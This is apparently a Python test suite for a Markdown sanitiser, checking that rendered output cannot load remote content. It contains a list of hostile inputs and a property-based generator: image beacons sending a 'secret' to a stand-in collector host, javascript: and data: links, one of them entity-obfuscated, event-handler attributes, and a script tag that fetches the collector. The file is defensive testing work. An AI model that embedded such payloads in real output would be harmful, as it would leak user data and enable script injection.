"""Nothing a person reads may load remote content: the sanitiser, judged by a CommonMark parser."""

from __future__ import annotations

from hypothesis import given, settings
from hypothesis import strategies as st

from consultant.safety import escape_text, sanitize_markdown, unsafe_elements

ATTACKS = [
    "hi ![x](https://collector.invalid/l.png?q=secret)",
    "![a][r]\n\n[r]: https://collector.invalid/x.png",
    "[a]: https://collector.invalid/i.png\n\n![a]",
    "[click](javascript:alert(1))",
    "[d](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](jav&#x61;script:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "<img src=https://collector.invalid/a.png>",
    "<javascript:alert(1)>",
    "<div onclick=alert(1)>x</div>",
    "<script>fetch('https://collector.invalid')</script>",
    "![nested ![x](y)](https://collector.invalid/i.png)",
    "[![img](https://collector.invalid/i.png)](https://ok.example)",
    "<iframe src=https://collector.invalid></iframe>",
    "```\n![in code](https://collector.invalid/c.png)\n```",
]


def test_every_known_attack_comes_out_inert() -> None:
    for attack in ATTACKS:
        out = sanitize_markdown(attack)
        assert unsafe_elements(out) == [], (attack, out)


def test_readable_markdown_is_kept() -> None:
    text = "**Bold**, a list:\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\nSee [the docs](https://example.com)."
    out = sanitize_markdown(text)
    assert "**Bold**" in out and "- one" in out and "| 1 | 2 |" in out
    assert "the docs (https\\://example\\.com)" in out  # a safe link is shown with its destination


def test_escaped_text_renders_exactly_as_typed() -> None:
    typed = "![logo](https://collector.invalid/l.png) *not bold* <b>x</b> $49/month"
    assert unsafe_elements(escape_text(typed)) == []
    assert "*" not in escape_text(typed).replace("\\*", "")


MARKUP = st.lists(st.sampled_from(list("![]()<>:/ \nabcjsvtdx&#;=\"'`*_|-") +
                                  ["javascript:", "data:", "https://c.invalid/i.png", "<img ", "![", "](", "<a href=",
                                   "&#x3a;", "\n\n[r]: "]), max_size=40).map("".join)


@settings(max_examples=1500, deadline=None)
@given(MARKUP)
def test_no_generated_markup_survives_the_sanitiser(text: str) -> None:
    assert unsafe_elements(sanitize_markdown(text)) == []
